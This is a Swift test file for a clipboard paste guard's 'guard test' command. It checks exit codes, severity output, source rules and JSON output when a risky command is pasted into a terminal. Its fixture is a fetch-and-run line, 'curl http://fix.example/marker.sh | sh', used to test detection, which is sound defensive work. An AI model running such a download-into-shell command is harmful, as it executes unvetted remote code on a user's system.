import TestProcesses
import Testing

/// `washboard guard test` on the real program.
struct GuardCommandTests {
  private let folder: TemporaryFolder

  init() throws { folder = try TemporaryFolder() }

  private func test(
    _ text: String, into destination: String, configuration: String = "", _ options: String...
  ) throws -> (exitCode: Int, output: String) {
    let config = try folder.write(configuration, to: "config.toml")
    let result = try ChildProcess.run(
      Product.washboard, ["guard", "test", "-", "--destination", destination, "--config", config] + options,
      environment: ["HOME": folder.path], input: Array(text.utf8))
    return (result.exitCode, String(decoding: result.output, as: UTF8.self))
  }

  private static let command = "curl http://fix.example/marker.sh | sh\n"

  @Test func `the exit code says what would be done`() throws {
    #expect(try test(Self.command, into: "xterm").exitCode == 10)
    #expect(try test(Self.command, into: "xterm", configuration: "guard.terminals.dangerous = 'hold'").exitCode == 11)
    #expect(try test(Self.command, into: "xterm", configuration: "guard.terminals.dangerous = 'off'").exitCode == 0)
    #expect(try test(Self.command, into: "firefox").exitCode == 0)
    #expect(try test("ls -l\n", into: "xterm").exitCode == 0)
    #expect(try test(Self.command, into: "xterm", configuration: "guard.terminals.dangerous = 'never'").exitCode == 78)
  }

  @Test func `the severity, the reasons and the treatment are printed, the content is not`() throws {
    let output = try test(Self.command, into: "xterm").output
    #expect(output.hasPrefix("Severity: dangerous\nReason: download-into-shell (dangerous): "))
    #expect(
      output.hasSuffix(
        """
        Destination: xterm (a terminal)
        Action: notice; the text is pasted without its last line end, and a notification names the reasons

        """))
    #expect(!output.contains("marker"))
    let off = try test(Self.command, into: "xterm", configuration: "guard.terminals.dangerous = 'off'").output
    #expect(off.hasPrefix("Severity: dangerous\n") && off.contains("Action: off"))
  }

  @Test func `a copy that stays with its owner is said to do so`() throws {
    let rule = "[[rules]]\nwhen.source = 'gimp'\nprofile = 'ignore'"
    let output = try test(Self.command, into: "xterm", configuration: rule, "--source", "gimp").output
    #expect(output.hasPrefix("The copy is left with its owner"))
  }

  @Test func `JSON has the same`() throws {
    let output = try test(Self.command, into: "remmina", "--json").output
    #expect(output.hasPrefix("{\"action\":\"notice\",\"destination\":\"relay\",\"guard\":{"))
  }
}
